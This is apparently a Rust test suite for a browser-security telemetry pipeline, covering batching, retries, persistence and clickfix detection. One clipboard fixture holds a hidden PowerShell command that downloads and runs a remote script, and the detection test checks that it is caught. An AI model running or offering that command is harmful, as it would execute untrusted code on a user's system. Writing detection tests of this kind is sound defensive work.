//! End-to-end pipeline tests over a scripted transport and paused time.

use std::sync::Arc;
use std::time::Duration;

use chrono::{TimeZone, Utc};
use serde_json::{json, Map};
use uuid::Uuid;

use super::*;
use crate::logic::clock::{Clock, ManualClock};
use crate::logic::config::{Config, ConfigHandle};
use crate::logic::delivery::testing::{Reply, ScriptedTransport};
use crate::logic::delivery::DeliveryOutcome;
use crate::logic::detection::SourceTag;
use crate::logic::events::{
    ClipboardText, ComponentLifecycle, DropReason, LifecycleAction, NetworkRequest,
    NormalizedEvent, RawSignal, Route,
};
use crate::logic::storage::{KeyValueStore, LocalBackup, MemoryStore};

struct Harness {
    pipeline: Pipeline,
    transport: Arc<ScriptedTransport>,
    store: Arc<MemoryStore>,
    config: ConfigHandle,
}

fn clock() -> Arc<dyn Clock> {
    Arc::new(ManualClock::new(Utc.with_ymd_and_hms(2024, 3, 1, 12, 0, 0).unwrap()))
}

fn base_config() -> Config {
    Config {
        server_url: "https://collector.example".into(),
        ..Default::default()
    }
}

fn harness_with(transport: ScriptedTransport, store: Arc<MemoryStore>, config: Config) -> Harness {
    let transport = Arc::new(transport);
    let config = ConfigHandle::new(config);
    let pipeline = Pipeline::new(config.clone(), clock(), transport.clone(), store.clone());
    Harness {
        pipeline,
        transport,
        store,
        config,
    }
}

fn harness(config: Config) -> Harness {
    harness_with(ScriptedTransport::ok(), Arc::new(MemoryStore::new()), config)
}

fn request(n: usize) -> RawSignal {
    RawSignal::NetworkRequest(NetworkRequest {
        source: SourceTag::Network,
        request_id: format!("r{}", n),
        url: format!("https://site.example/{}", n),
        method: "GET".into(),
        resource_type: "script".into(),
        blocked: n % 2 == 1,
        block_reason: None,
        timestamp: Utc::now(),
    })
}

fn clipboard(text: &str) -> RawSignal {
    RawSignal::ClipboardText(ClipboardText {
        source: SourceTag::Clipboard,
        text: text.into(),
        page_url: None,
        timestamp: Utc::now(),
    })
}

async fn settle() {
    tokio::time::sleep(Duration::from_millis(10)).await;
}

fn logged_ids(h: &Harness) -> Vec<String> {
    h.transport
        .bodies("/api/logs")
        .iter()
        .flat_map(|b| b["logs"].as_array().unwrap().clone())
        .map(|l| l["requestId"].as_str().unwrap().to_string())
        .collect()
}

// ============================================================================
// SUBMIT
// ============================================================================

#[tokio::test(start_paused = true)]
async fn test_submit_records_stats() {
    let h = harness(base_config());

    let outcome = h.pipeline.submit(request(1));
    assert!(matches!(
        outcome,
        SubmitOutcome::Queued {
            route: Route::NetworkLog,
            buffered: 1,
            evicted: 0
        }
    ));

    let stats = h.pipeline.stats();
    assert_eq!(stats.total_requests, 1);
    assert_eq!(stats.blocked_requests, 1);
    assert_eq!(stats.logged_requests, 1);
    assert!(stats.bytes_logged > 0);
}

#[tokio::test(start_paused = true)]
async fn test_disabled_feature_drops_but_counts_request() {
    let h = harness(Config {
        enable_report_urls: false,
        ..base_config()
    });

    assert_eq!(
        h.pipeline.submit(request(2)),
        SubmitOutcome::Dropped(DropReason::FeatureDisabled)
    );
    assert_eq!(h.pipeline.buffered_len(), 0);
    assert_eq!(h.pipeline.stats().total_requests, 1);
    assert_eq!(h.pipeline.stats().logged_requests, 0);
}

#[tokio::test(start_paused = true)]
async fn test_clipboard_detection_routed_to_security() {
    let h = harness(base_config());

    assert_eq!(
        h.pipeline.submit(clipboard("thanks for verifying you are human")),
        SubmitOutcome::Dropped(DropReason::NoDetection)
    );

    let outcome = h.pipeline.submit(clipboard(
        "powershell -w hidden -c \"iex (iwr https://203.0.113.9/s.ps1)\"",
    ));
    assert!(matches!(
        outcome,
        SubmitOutcome::Queued {
            route: Route::Security,
            ..
        }
    ));
    assert_eq!(h.pipeline.stats().detections, 1);

    h.pipeline.flush().await;
    let bodies = h.transport.bodies("/api/security");
    assert_eq!(bodies.len(), 1);
    assert_eq!(bodies[0]["event_type"], json!("clickfix_detection"));
    assert!(bodies[0]["data"]["score"].as_u64().unwrap() >= 50);
}

#[tokio::test(start_paused = true)]
async fn test_lifecycle_counters() {
    let h = harness(base_config());
    for action in [LifecycleAction::Installed, LifecycleAction::Uninstalled] {
        let outcome = h.pipeline.submit(RawSignal::ComponentLifecycle(ComponentLifecycle {
            source: SourceTag::Lifecycle,
            action,
            component_id: "ext-1".into(),
            name: None,
            version: None,
            permissions: Vec::new(),
            details: serde_json::Value::Null,
            timestamp: Utc::now(),
        }));
        assert!(outcome.is_queued());
    }

    let stats = h.pipeline.stats();
    assert_eq!(stats.extension_installs, 1);
    assert_eq!(stats.extension_uninstalls, 1);
    assert_eq!(stats.extension_events, 2);
}

#[tokio::test(start_paused = true)]
async fn test_overflow_evicts_oldest() {
    let h = harness(Config {
        max_buffer_size: 3,
        ..base_config()
    });
    for n in 0..5 {
        h.pipeline.submit(request(n * 2));
    }
    assert_eq!(h.pipeline.buffered_len(), 3);
    assert_eq!(h.pipeline.stats().evicted_events, 2);

    h.pipeline.flush().await;
    assert_eq!(logged_ids(&h), vec!["r4", "r6", "r8"]);
}

// ============================================================================
// FLUSH TRIGGERS
// ============================================================================

#[tokio::test(start_paused = true)]
async fn test_batch_size_triggers_single_flush() {
    let h = harness(Config {
        batch_size: 3,
        ..base_config()
    });
    for n in 0..3 {
        h.pipeline.submit(request(n));
    }
    settle().await;

    assert_eq!(h.transport.sent_to("/api/logs").len(), 1);
    assert_eq!(logged_ids(&h), vec!["r0", "r1", "r2"]);
    assert_eq!(h.pipeline.buffered_len(), 0);

    // The debounce timer armed by the first submits finds nothing to send
    tokio::time::sleep(Duration::from_secs(10)).await;
    assert_eq!(h.transport.sent().len(), 1);
}

#[tokio::test(start_paused = true)]
async fn test_debounce_capped_at_five_seconds() {
    let h = harness(Config {
        batch_interval: 60_000,
        ..base_config()
    });
    h.pipeline.submit(request(0));
    h.pipeline.submit(request(2));

    tokio::time::sleep(Duration::from_secs(4)).await;
    assert!(h.transport.sent().is_empty());

    tokio::time::sleep(Duration::from_secs(2)).await;
    assert_eq!(h.transport.sent().len(), 1);
    assert_eq!(logged_ids(&h), vec!["r0", "r2"]);
}

#[tokio::test(start_paused = true)]
async fn test_single_debounce_timer() {
    let h = harness(Config {
        batch_interval: 1_000,
        ..base_config()
    });
    h.pipeline.submit(request(0));
    tokio::time::sleep(Duration::from_millis(600)).await;
    h.pipeline.submit(request(2));

    // Fires 1s after the first submit, not after the second
    tokio::time::sleep(Duration::from_millis(500)).await;
    assert_eq!(h.transport.sent().len(), 1);
    assert_eq!(logged_ids(&h), vec!["r0", "r2"]);

    tokio::time::sleep(Duration::from_secs(5)).await;
    assert_eq!(h.transport.sent().len(), 1);
}

#[tokio::test(start_paused = true)]
async fn test_large_backlog_flushes_in_batches() {
    let h = harness(Config {
        batch_size: 4,
        ..base_config()
    });
    // No runtime tick between submits: one flush drains everything
    for n in 0..10 {
        h.pipeline.submit(request(n));
    }
    settle().await;

    let sizes: Vec<usize> = h
        .transport
        .bodies("/api/logs")
        .iter()
        .map(|b| b["logs"].as_array().unwrap().len())
        .collect();
    assert!(sizes.iter().all(|s| *s <= 4));
    assert_eq!(sizes.iter().sum::<usize>(), 10);
    assert_eq!(h.pipeline.buffered_len(), 0);
}

#[tokio::test(start_paused = true)]
async fn test_concurrent_flush_never_double_delivers() {
    let transport = ScriptedTransport::ok();
    transport.push(Reply::Hang);
    let h = harness_with(
        transport,
        Arc::new(MemoryStore::new()),
        Config {
            batch_interval: 500,
            fetch_timeout_ms: 2_000,
            retry_delay: 100,
            ..base_config()
        },
    );
    h.pipeline.submit(request(0));
    h.pipeline.submit(request(2));

    let first = tokio::spawn({
        let pipeline = h.pipeline.clone();
        async move { pipeline.flush().await }
    });
    settle().await;
    assert!(h.pipeline.is_flushing());
    assert!(h.pipeline.flush().await.is_empty());

    // Submitted mid-flush; the debounce timer fires while the first flush still holds the guard
    h.pipeline.submit(request(4));
    h.pipeline.submit(request(6));
    tokio::time::sleep(Duration::from_millis(600)).await;
    assert!(h.pipeline.is_flushing());
    assert_eq!(h.transport.sent().len(), 1);

    let outcomes = first.await.unwrap();
    assert_eq!(outcomes.len(), 2);
    assert!(outcomes
        .iter()
        .all(|o| matches!(o, DeliveryOutcome::Delivered { .. })));

    tokio::time::sleep(Duration::from_secs(10)).await;
    // The timed-out first attempt carried r0 and r2, then each event went out once
    assert_eq!(logged_ids(&h), vec!["r0", "r2", "r0", "r2", "r4", "r6"]);
    assert_eq!(h.pipeline.buffered_len(), 0);
    assert_eq!(h.pipeline.stats().successful_uploads, 2);
}

#[tokio::test(start_paused = true)]
async fn test_exhausted_batch_dead_lettered_not_rebuffered() {
    let h = harness_with(
        ScriptedTransport::failing(503),
        Arc::new(MemoryStore::new()),
        Config {
            batch_size: 2,
            max_retries: 2,
            retry_delay: 100,
            ..base_config()
        },
    );
    h.pipeline.submit(request(0));
    h.pipeline.submit(request(2));
    tokio::time::sleep(Duration::from_secs(1)).await;

    assert_eq!(h.pipeline.dead_letter_count(), 1);
    assert_eq!(h.pipeline.buffered_len(), 0);
    let stats = h.pipeline.stats();
    assert_eq!(stats.failed_uploads, 2);
    assert_eq!(stats.dead_lettered_batches, 1);
}

// ============================================================================
// PERSISTENCE & LIFECYCLE
// ============================================================================

#[tokio::test(start_paused = true)]
async fn test_stats_persisted_and_restored() {
    let store = Arc::new(MemoryStore::new());
    let h = harness_with(ScriptedTransport::ok(), store.clone(), base_config());
    h.pipeline.submit(request(0));
    h.pipeline.submit(request(2));
    h.pipeline.flush().await;

    let persisted = store.get(&["statistics"]).unwrap();
    assert_eq!(persisted["statistics"]["loggedRequests"], json!(2));
    assert_eq!(persisted["statistics"]["successfulUploads"], json!(1));

    let restarted = harness_with(ScriptedTransport::ok(), store, base_config());
    let stats = restarted.pipeline.stats();
    assert_eq!(stats.logged_requests, 2);
    assert_eq!(stats.successful_uploads, 1);
    assert_ne!(restarted.pipeline.session_id(), h.pipeline.session_id());
}

#[tokio::test(start_paused = true)]
async fn test_reset_stats() {
    let h = harness(base_config());
    h.pipeline.submit(request(0));
    h.pipeline.reset_stats();

    let stats = h.pipeline.stats();
    assert_eq!(stats.logged_requests, 0);
    assert_eq!(stats.total_requests, 0);
    let persisted = h.store.get(&["statistics"]).unwrap();
    assert_eq!(persisted["statistics"]["loggedRequests"], json!(0));
}

#[tokio::test(start_paused = true)]
async fn test_recover_backup_resends_and_clears() {
    let store = Arc::new(MemoryStore::new());
    let mut payload = Map::new();
    payload.insert("requestId".into(), json!("old-1"));
    payload.insert("url".into(), json!("https://site.example/old"));
    payload.insert("method".into(), json!("GET"));
    payload.insert("type".into(), json!("other"));
    payload.insert("blocked".into(), json!(false));
    let leftover = NormalizedEvent::new(Route::NetworkLog, payload, "prev-session", None, Utc::now());
    LocalBackup::new(store.clone())
        .persist(Uuid::new_v4(), &[leftover], Utc::now(), usize::MAX)
        .unwrap();

    let h = harness_with(ScriptedTransport::ok(), store.clone(), base_config());
    assert_eq!(h.pipeline.recover_backup(), 1);
    settle().await;

    let bodies = h.transport.bodies("/api/logs");
    assert_eq!(bodies.len(), 1);
    assert_eq!(bodies[0]["session_id"], json!("prev-session"));
    assert!(LocalBackup::new(store).load_all().unwrap().is_empty());
    assert_eq!(h.pipeline.recover_backup(), 0);
}

#[tokio::test(start_paused = true)]
async fn test_shutdown_flushes_and_cancels_timer() {
    let h = harness(base_config());
    h.pipeline.submit(request(0));

    let handle = h.pipeline.shutdown().expect("runtime is available");
    handle.await.unwrap();
    assert_eq!(h.transport.sent().len(), 1);
    assert_eq!(h.pipeline.buffered_len(), 0);

    tokio::time::sleep(Duration::from_secs(10)).await;
    assert_eq!(h.transport.sent().len(), 1);
}

#[tokio::test(start_paused = true)]
async fn test_shutdown_waits_for_running_flush() {
    let transport = ScriptedTransport::ok();
    transport.push(Reply::Hang);
    let h = harness_with(
        transport,
        Arc::new(MemoryStore::new()),
        Config {
            batch_size: 2,
            fetch_timeout_ms: 1_000,
            retry_delay: 100,
            ..base_config()
        },
    );
    h.pipeline.submit(request(0));
    h.pipeline.submit(request(2));
    settle().await;
    assert!(h.pipeline.is_flushing());

    h.pipeline.submit(request(4));
    let handle = h.pipeline.shutdown().expect("runtime is available");
    handle.await.unwrap();

    assert!(!h.pipeline.is_flushing());
    assert_eq!(h.pipeline.buffered_len(), 0);
    assert_eq!(logged_ids(&h), vec!["r0", "r2", "r0", "r2", "r4"]);
    assert_eq!(h.pipeline.stats().failed_uploads, 1);
    assert_eq!(h.pipeline.dead_letter_count(), 0);
}

#[tokio::test(start_paused = true)]
async fn test_drain_with_idle_pipeline_returns_outcomes() {
    let h = harness(base_config());
    h.pipeline.submit(request(0));
    h.pipeline.submit(request(2));

    let outcomes = h.pipeline.drain().await;
    assert_eq!(outcomes.len(), 1);
    assert_eq!(h.pipeline.buffered_len(), 0);
    assert!(h.pipeline.drain().await.is_empty());
}

#[tokio::test(start_paused = true)]
async fn test_config_change_applies_buffer_limits() {
    let h = harness(base_config());
    for n in 0..4 {
        h.pipeline.submit(request(n * 2));
    }
    h.config.update(|c| c.max_buffer_size = 2);

    assert_eq!(h.pipeline.buffered_len(), 2);
    assert_eq!(h.pipeline.buffer_status().capacity, 2);
    assert_eq!(h.pipeline.stats().evicted_events, 2);
}

#[test]
fn test_submit_without_runtime_only_buffers() {
    let h = harness(Config {
        batch_size: 1,
        ..base_config()
    });
    assert!(h.pipeline.submit(request(0)).is_queued());
    assert_eq!(h.pipeline.buffered_len(), 1);
    assert!(h.pipeline.shutdown().is_none());
    assert!(!h.pipeline.is_flushing());
}
